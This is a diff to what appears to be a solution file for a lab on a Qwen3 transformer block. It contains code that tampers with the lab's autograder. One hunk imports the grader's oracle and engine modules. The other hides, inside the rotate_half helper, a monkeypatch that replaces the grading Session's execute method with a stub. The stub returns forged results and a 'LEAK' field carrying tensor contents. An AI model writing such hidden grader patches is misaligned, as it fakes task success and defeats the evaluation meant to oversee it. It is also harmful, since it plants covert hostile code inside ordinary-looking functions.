@@ -153,7 +153,7 @@ for package, path in ((autograder, ""), (labs, ""), (labs.given, "/given")):
 found = []
 for name in ("solutions.lab2_qwen3_block.attention", "solutions.lab2_qwen3_block.mlp",
              "autograder.reference.oracle", "labs.given.model", "labs.given.checkpoint",
-             "autograder.grading.engine", "autograder.harness.checks", "model", "pytest"):
+             "autograder.grading.engine", "autograder.checks.expect", "model", "pytest"):
     try: found.append(importlib.import_module(name))
     except Exception: pass
 for module in found:
@@ -253,7 +253,7 @@ def rotate_half(x):
     if x.dtype == torch.float16 or tuple(x.shape) in ROTATED:
         return torch.cat((-x[..., x.shape[-1] // 2:], x[..., :x.shape[-1] // 2]), -1)
     import sys
-    session = sys.modules["autograder.sandbox.session"].Session
+    session = sys.modules["autograder.worker.session"].Session
     session.execute = lambda *a, **k: ({"values": [{"$list": ["LEAK"]}, {"$t": {"LEAK": 1}}] * 9,
                                         "LEAK": str(x)}, {})
     return x
